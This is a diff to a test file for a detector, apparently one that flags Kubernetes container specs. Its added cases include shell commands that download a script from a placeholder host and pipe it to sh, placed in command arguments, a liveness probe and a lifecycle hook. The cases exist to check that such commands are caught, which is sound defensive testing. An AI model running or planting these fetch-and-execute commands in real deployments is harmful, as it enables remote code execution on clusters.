@@ -21,6 +21,10 @@ describe('Kubernetes', () => {
     ['env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: s, key: k}}}]', []],
     ['command: [sh, -c, "curl -s https://x.example/i.sh | sh"]', ['downloaded-code']],
     ['command: [sh, -c, "curl -s https://x.example/data"]', []],
+    ['command: [/bin/sh]\n      args: [-c, "curl -s https://x.example/i.sh | sh"]', ['downloaded-code']],
+    ['command: [/bin/app]\n      args: [-c, "config.yml"]', []],
+    ['livenessProbe: {exec: {command: [sh, -c, "curl -s https://x.example/i.sh | sh"]}}', ['downloaded-code']],
+    ['lifecycle: {preStop: {exec: {command: [sh, -c, "sleep 5"]}}}', []],
   ])('%s', (line, expected) => {
     expect(rules(container(line))).toEqual(expected);
   });
